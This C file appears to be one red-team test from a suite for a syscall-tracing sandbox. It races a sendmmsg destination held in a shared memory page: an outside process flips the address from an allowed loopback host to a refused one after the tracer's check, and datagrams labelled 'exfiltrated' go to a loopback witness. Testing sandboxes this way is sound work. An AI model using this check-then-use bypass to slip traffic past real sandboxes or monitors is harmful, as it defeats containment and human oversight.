/* net_mmsg_shared: a sendmmsg whose name lies in a MAP_SHARED page that a process outside the
 * tree rewrites (red team 50).
 *
 * A MAP_SHARED mmap stops, and from then on an argument in a shared page is "held" even in a
 * tree of one task (class 2, "Writers that are no task of the tree") -- but a sendmmsg is
 * never copied into the scratch area (the kernel writes each msg_len back into it), only
 * frozen, and a freeze stops no process outside the tree.  So the name the tracer checked
 * (127.0.0.3) is read again by the kernel after the outsider wrote 127.127.127.127 there.
 *
 *   net_mmsg_shared send WHERE PORT [COUNT]  the program: COUNT one-message sendmmsg calls
 *                                            whose name is at the start of WHERE, mapped
 *                                            MAP_SHARED (family and port its own)
 *   net_mmsg_shared flip WHERE               the outsider: sin_addr 127.0.0.3 <-> 127.127.127.127
 *
 * Refused: 127.127.127.127; a UDP listener there (the test's, outside the tree) is the
 * witness.  Class 2/7.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>

static unsigned char *map_where(const char *where) {
    int fd = open(where, O_RDWR | O_CREAT, 0666);
    if (fd < 0 || ftruncate(fd, 4096) < 0)
        return MAP_FAILED;
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    return page;
}

int main(int argc, char **argv) {
    if (argc < 3)
        usage("net_mmsg_shared send WHERE PORT [COUNT] | flip WHERE | free PORT");
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(argv[1], "free")) {
        /* parity: after MADV_FREE (a writer of zeros only) a nameless batch on a connected
         * socket runs; one with a name is refused (a reclaim could cut it short) */
        unsigned char *spare = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                                    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        spare[0] = 1;
        if (madvise(spare, 4096, MADV_FREE) < 0)
            skipped("MADV_FREE: %s", ename(errno));
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[2]))};
        inet_pton(AF_INET, "127.0.0.3", &to.sin_addr);
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) < 0)
            blocked("socket/connect: %s", ename(errno));
        struct iovec word = {.iov_base = "x", .iov_len = 1};
        struct mmsghdr one = {.msg_hdr = {.msg_iov = &word, .msg_iovlen = 1}};
        int nameless = sendmmsg(s, &one, 1, 0);
        int e1 = errno;
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        one.msg_hdr.msg_name = &to;
        one.msg_hdr.msg_namelen = sizeof to;
        int named = sendmmsg(u, &one, 1, 0);
        int e2 = errno;
        blocked("nameless: %d %s, named: %d %s", nameless, nameless < 0 ? ename(e1) : "ok",
                named, named < 0 ? ename(e2) : "ok");
    }
    unsigned char *page = map_where(argv[2]);
    if (page == MAP_FAILED)
        blocked("map %s: %s", argv[2], ename(errno));
    struct sockaddr_in *name = (struct sockaddr_in *)page;
    if (!strcmp(argv[1], "flip")) {
        uint32_t allowed, refused;
        inet_pton(AF_INET, "127.0.0.3", &allowed);
        inet_pton(AF_INET, "127.127.127.127", &refused);
        for (;;) {
            __atomic_store_n(&name->sin_addr.s_addr, allowed, __ATOMIC_RELAXED);
            for (volatile int i = 0; i < 200; i++)
                ;
            __atomic_store_n(&name->sin_addr.s_addr, refused, __ATOMIC_RELAXED);
            for (volatile int i = 0; i < 200; i++)
                ;
        }
    }
    if (strcmp(argv[1], "send") || argc < 4)
        usage("unknown mode");
    name->sin_family = AF_INET;
    name->sin_port = htons(atoi(argv[3]));
    long count = argc > 4 ? atol(argv[4]) : 3000;
    /* the outsider writes the address: until it has, every datagram goes to 0.0.0.0 (a
     * control that ran before the outsider's first write reached nothing) */
    time_t until = time(NULL) + 10;
    while (!__atomic_load_n(&name->sin_addr.s_addr, __ATOMIC_RELAXED))
        if (time(NULL) > until)
            blocked("the outsider never wrote %s", argv[2]);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0)
        blocked("socket: %s", ename(errno));
    struct iovec word = {.iov_base = "exfiltrated", .iov_len = 11};
    long sent = 0, refused = 0, eperm = 0, other = 0;
    int last = 0;
    for (long i = 0; i < count; i++) {
        struct mmsghdr one = {.msg_hdr = {.msg_name = name, .msg_namelen = sizeof *name,
                                          .msg_iov = &word, .msg_iovlen = 1}};
        if (i % 8 == 7) {
            /* the outsider gets the CPU now and then: on a busy machine it may share this
             * core, and 3000 sends fit in one time slice (the control reached nothing) */
            struct timespec nap = {.tv_nsec = 20000};
            nanosleep(&nap, NULL);
        }
        int n = sendmmsg(s, &one, 1, 0);
        if (n == 1)
            sent++;
        else if (errno == ECONNREFUSED)
            refused++;
        else if (errno == EPERM)
            eperm++;
        else
            other++, last = errno;
    }
    /* what reached 127.127.127.127 only the witness knows */
    blocked("%ld sent, %ld ECONNREFUSED, %ld EPERM, %ld failed otherwise (last errno %s)", sent,
            refused, eperm, other, last ? ename(last) : "none");
}
